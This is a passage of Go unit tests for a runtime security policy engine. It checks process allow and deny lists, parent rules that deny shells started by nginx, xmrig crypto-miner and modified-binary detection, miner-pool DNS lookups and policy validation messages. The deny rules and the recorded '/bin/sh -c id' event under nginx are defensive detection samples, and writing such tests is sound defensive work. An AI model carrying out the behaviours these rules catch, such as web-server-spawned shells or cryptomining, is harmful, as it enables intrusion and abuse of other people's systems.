		{"allowed", allow, digests(command("/x"), a), ""},
		{"allowed by name", allow, digests(command("/bin/ls"), b), ""},
		{"not allowed", allow, digests(command("/x"), b), DeniedProcess},
		{"not known", allow, command("/x"), DeniedProcess},
		{"allowed script", allow, digests(script(), a, b, c), ""},
		{"allowed interpreter", allow, digests(script(), b, c, a), ""},
		{"allowed first interpreter", allow, digests(script(), b, a, c), DeniedProcess},
		{"allowed behind a loader", allow, digests(loaded(), b, a), ""},
		{"allowed loader", allow, digests(loaded(), a, b), DeniedProcess},
	} {
		t.Run(tt.name, func(t *testing.T) { expect(t, tt.e.Decide(tt.ev), tt.want, "") })
	}
	if !deny.Needs().Has(NeedDigests) || !allow.Needs().Has(NeedDigests) {
		t.Error("digests are not needed")
	}
}

func TestParents(t *testing.T) {
	e := compile(t, Rule{Processes: &ProcessesSection{Effect: new(Prevent), Parents: []ParentRule{
		{Programs: list("sh", "bash"), Deny: list("nginx", "/opt/app/*")},
		{Programs: list("git"), Allow: list("ci-runner")},
		{Programs: list("curl"), Deny: list("*"), Effect: new(Disable)},
	}}})
	for _, c := range []struct {
		name   string
		ev     *Event
		want   Detection
		reason string
	}{
		{"denied parent", below(command("/bin/sh"), "/usr/sbin/nginx"), DeniedProcess, `"/bin/sh" was started by "/usr/sbin/nginx", which is on the deny list (nginx)`},
		{"denied further up", below(command("/bin/bash"), "/usr/bin/env", "/opt/app/x"), DeniedProcess, `"/bin/bash" was started below "/opt/app/x", which is on the deny list (/opt/app/*)`},
		{"another parent", below(command("/bin/sh"), "/sbin/tini"), "", ""},
		{"another program", below(command("/bin/ls"), "/usr/sbin/nginx"), "", ""},
		{"allowed parent", below(command("/usr/bin/git"), "/usr/bin/ci-runner"), "", ""},
		{"allowed further up only", below(command("/usr/bin/git"), "/bin/sh", "/usr/bin/ci-runner"), DeniedProcess, `"/usr/bin/git" was started by "/bin/sh", which is not on the allow list`},
		{"parent not known", command("/bin/sh"), DeniedProcess, "not known"},
		{"parent disabled", below(command("/usr/bin/curl"), "/bin/sh"), "", ""},
	} {
		t.Run(c.name, func(t *testing.T) { expect(t, e.Decide(c.ev), c.want, c.reason) })
	}
	if got := e.Needs(); got != NeedSubject|NeedAncestry {
		t.Errorf("needs %s", got)
	}
	got := (&Policy{Version: 1, Rules: []Rule{{Name: "r", Processes: &ProcessesSection{Effect: new(Alert), Parents: []ParentRule{
		{}, {Programs: list("a"), Deny: list("sha256:" + strings.Repeat("a", 64))},
	}}}}}).Validate()
	want := []string{
		"rules[0].processes.parents[0].programs: missing; write which programs this is about",
		"rules[0].processes.parents[0]: says nothing; write allow, the parents that may start them, or deny",
		`rules[0].processes.parents[1].deny[0]: "sha256:` + strings.Repeat("a", 64) + `": a digest is nothing to know a parent by; write a name or a path`,
	}
	if len(got) != len(want) {
		t.Fatalf("got %v", got)
	}
	for i, f := range got {
		if f.Error() != want[i] {
			t.Errorf("got %s", f)
		}
	}
}

// Of several findings the strictest counts, and of equals the list's.
func TestStrictest(t *testing.T) {
	e := compile(t, Rule{Processes: &ProcessesSection{
		Effect: new(Alert), Deny: list("xmrig"),
		Detect: ProcessDetections{CryptoMiners: new(Prevent), Fileless: new(Inherit), Modified: new(Block)},
	}})
	if v := e.Decide(command("/xmrig")); v.Detection != CryptoMiner || v.Allow {
		t.Errorf("got %+v", v)
	}
	ev := with(command("/xmrig"), func(ev *Event) { ev.Program.Modified, ev.Program.Fileless = true, true })
	if v := e.Decide(ev); v.Detection != ModifiedProcess || v.Effect != Block {
		t.Errorf("got %+v", v)
	}
	if v := e.Decide(with(command("/ls"), func(ev *Event) { ev.Program.Fileless = true })); v.Detection != Fileless || v.Effect != Alert || !v.Allow {
		t.Errorf("got %+v", v)
	}
	equal := compile(t, Rule{Processes: &ProcessesSection{Effect: new(Prevent), Deny: list("xmrig"), Detect: ProcessDetections{CryptoMiners: new(Inherit)}}})
	if v := equal.Decide(command("/xmrig")); v.Detection != DeniedProcess {
		t.Errorf("got %+v", v)
	}
	if !e.Refuses(Processes) || e.Refuses(DNS) {
		t.Error("Refuses knows nothing of detections")
	}
	if v := e.Decide(&Event{Section: Processes}); v.Effect != Block {
		t.Errorf("an unreadable call is judged less than a readable one: %+v", v)
	}
}

func TestExempt(t *testing.T) {
	e := compile(t, Rule{Processes: &ProcessesSection{
		Effect: new(Prevent), Deny: list("evil"), Exempt: list("/opt/agent", "evil"),
		Detect: ProcessDetections{Modified: new(Inherit)},
	}})
	modified := func(path string) *Event {
		return with(command(path), func(ev *Event) { ev.Program.Modified = true })
	}
	expect(t, e.Decide(modified("/opt/agent")), "", "")
	expect(t, e.Decide(modified("/opt/agent2")), ModifiedProcess, "")
	expect(t, e.Decide(modified("/evil")), DeniedProcess, "")
}

func TestNeedsOfDetections(t *testing.T) {
	e := compile(t, Rule{
		Processes: &ProcessesSection{Effect: new(Disable), Detect: ProcessDetections{Modified: new(Alert), SetUID: new(Inherit), CryptoMiners: new(Alert)}},
		Network:   &NetworkSection{Effect: new(Alert), Outbound: OutboundSection{AllowNames: list("*")}, Detect: NetworkDetections{RawSockets: new(Inherit)}},
		Files:     &FilesSection{Effect: new(Alert), Detect: FileDetections{Malware: new(Prevent)}},
	})
	if got := e.Needs().String(); got != "modified,subject,ancestry,names,rawSockets,content,argv,programContent,programMalware" {
		t.Errorf("got %s", got)
	}
	var back Needs
	if err := back.UnmarshalText([]byte("content,modified")); err != nil || back != NeedModified|NeedContent {
		t.Errorf("%v, %v", back, err)
	}
	if err := back.UnmarshalText([]byte("x")); err == nil {
		t.Error("x is needed")
	}
	if err := back.UnmarshalText(nil); err != nil || back != 0 {
		t.Error(err)
	}
	for n := Needs(1); n <= NeedCommand; n <<= 1 {
		if text, _ := n.MarshalText(); back.UnmarshalText(text) != nil || back != n {
			t.Errorf("%b: %s", n, text)
		}
	}
}

// Each pool has two labels and fits its look-up.
func TestPools(t *testing.T) {
	for name := range pools.names {
		if pool(name) != name || pool("a.b."+name) != name || pool("x"+name) != "" {
			t.Errorf("%s is not found", name)
		}
	}
	for _, none := range list("", ".", "com", "a.test", strings.Repeat("a", 40)+".com") {
		if got := pool(none); got != "" {
			t.Errorf("%s: %s", none, got)
		}
	}
}

// A recorded event is the event.
func TestEventJSON(t *testing.T) {
	ev := below(command("/bin/sh", "-c", "id"), "/usr/sbin/nginx", "/sbin/tini")
	ev.Subject.User, ev.Subject.Interactive, ev.Subject.PID = "root", true, 7
	ev.Program.Digests, ev.Program.Interpreters, ev.Program.Modified = list("ab"), list("/bin/dash"), true
	ev.Unsure = NeedDigests | NeedNames
	dial := with(outbound("[2001:db8::1]:443"), func(ev *Event) { ev.Name, ev.Resolved, ev.Scan = "a.test", true, ManyHosts })
	file := pair("rename", "/a", "/b")
	file.File.Findings = []Finding{{FoundPacked, "UPX"}}
	unknown := &Event{Section: Files, Call: "openat", Why: "gone"}
	for _, ev := range []*Event{ev, dial, file, unknown, lookup("a.test")} {
		b, err := json.Marshal(ev)
		if err != nil {
			t.Fatal(err)
		}
		var back Event
		if err := json.Unmarshal(b, &back); err != nil || !reflect.DeepEqual(&back, ev) {
			t.Errorf("%s: %+v, %v", b, back, err)
		}
	}
}

func TestDefaultEffect(t *testing.T) {
	p := &Policy{Version: 1, Rules: []Rule{{Name: "r", OnUnknown: new(Inherit), DNS: &DNSSection{Effect: new(Inherit), Detect: DNSDetections{MinerPools: new(Effect(9))}}}}}
	want := []string{
		`rules[0].onUnknown: "default" is an effect of detections only; one of disable, alert, prevent, block`,
		`rules[0].dns.effect: "default" is an effect of detections only; one of disable, alert, prevent, block`,
		`rules[0].dns.detect.minerPools: 9 is not an effect; one of disable, alert, prevent, block`,
	}
	var got []string
	for _, f := range p.Validate() {
		got = append(got, f.Error())
	}
	if !slices.Equal(got, want) {
		t.Errorf("got %q", got)
	}
}
